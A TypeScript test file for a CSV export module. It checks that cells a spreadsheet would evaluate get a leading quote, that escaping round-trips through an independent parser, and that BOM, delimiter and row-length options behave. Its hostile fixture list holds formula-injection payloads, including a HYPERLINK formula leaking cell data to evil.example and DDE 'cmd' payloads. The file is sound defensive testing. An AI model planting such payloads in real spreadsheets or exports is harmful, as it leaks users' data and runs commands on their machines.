import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { sharedData } from '../../test/support/paths.js';
import { formulaSafe, renderCsv, undoFormulaSafe } from './csv.js';

const hostile = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
];

test('cells a spreadsheet would evaluate get a leading quote, others stay as they are', () => {
  for (const text of hostile) assert.equal(formulaSafe(text), `'${text}`, JSON.stringify(text));
  assert.equal(formulaSafe('A.5.1 = policy'), 'A.5.1 = policy');
  assert.equal(formulaSafe('Räksmörgås'), 'Räksmörgås');
  assert.equal(formulaSafe(''), '');
  assert.equal(formulaSafe("'=1+1"), "''=1+1");
  assert.equal(formulaSafe("'quoted'"), "'quoted'");
});

test('undoFormulaSafe is the exact inverse of formulaSafe', () => {
  for (const text of [...hostile, "'=1+1", "''-x", "'plain", 'plain', '', "'", '=']) {
    assert.equal(undoFormulaSafe(formulaSafe(text)), text, JSON.stringify(text));
  }
  assert.equal(undoFormulaSafe("'plain"), "'plain");
});

test('quoting, CRLF records and hostile cells survive a round trip through an independent parser', () => {
  const rows = [
    ['A.5.1', 'Policies for "information" security', 'Line one\nline two'],
    ['A.8.8', 'Sårbarheter, åtgärder och övervakning', hostile[0] ?? ''],
    ['x', "+cmd|' /C calc'!A0", '@SUM(1)'],
  ];
  const csv = renderCsv(['Ref', 'Title', 'Note'], rows);
  assert.ok(csv.endsWith('\r\n'));
  assert.equal(
    csv.split('\r\n').length,
    5,
    'four records, each ended by CRLF (one inside a quoted field is LF)',
  );
  assert.ok(csv.includes('"Policies for ""information"" security"'));
  assert.ok(csv.includes('"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"'));
  assert.ok(csv.includes(",'@SUM(1)\r\n"));
  const parsed = parse(csv) as string[][];
  assert.deepEqual(parsed[0], ['Ref', 'Title', 'Note']);
  assert.deepEqual(parsed[1], rows[0]);
  assert.deepEqual(parsed[2], ['A.8.8', 'Sårbarheter, åtgärder och övervakning', `'${hostile[0]}`]);
  assert.deepEqual(parsed[3], ['x', "'+cmd|' /C calc'!A0", "'@SUM(1)"]);
  for (const record of parsed) {
    for (const cell of record) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, cell);
  }
});

test('numbers, booleans and null are written plainly; non-finite numbers are refused', () => {
  assert.equal(renderCsv(['a', 'b', 'c', 'd'], [[-5, 1.5, true, null]]), 'a,b,c,d\r\n-5,1.5,true,\r\n');
  assert.throws(() => renderCsv(['a'], [[Number.NaN]]), /not a finite number/);
});

test('a header cell can be hostile too and is made safe', () => {
  assert.equal(renderCsv(['=1+1'], []), "'=1+1\r\n");
});

test('BOM and semicolon delimiter options', () => {
  const csv = renderCsv(['a', 'b'], [['1;2', 'x,y']], { bom: true, delimiter: ';' });
  assert.ok(csv.startsWith('\ufeffa;b\r\n'));
  assert.equal(csv, '\ufeffa;b\r\n"1;2";x,y\r\n');
  assert.deepEqual(parse(csv, { bom: true, delimiter: ';' }), [
    ['a', 'b'],
    ['1;2', 'x,y'],
  ]);
  assert.ok(!renderCsv(['a'], []).startsWith('\ufeff'));
});

test('rows with the wrong number of cells are refused', () => {
  assert.throws(() => renderCsv(['a', 'b'], [['1']]), /row 1 has 1 cells, the header has 2/);
});

test('a real CSV file (W3C DPV NIS2 concepts) round-trips unchanged', () => {
  const source = readFileSync(sharedData('dpv-eu-nis2.csv'), 'utf8');
  const [header, ...rows] = parse(source, { bom: true }) as string[][];
  assert.ok(header && rows.length >= 10);
  for (const row of rows) for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
  const again = parse(renderCsv(header, rows, { bom: true }), { bom: true }) as string[][];
  assert.deepEqual(again, [header, ...rows]);
});
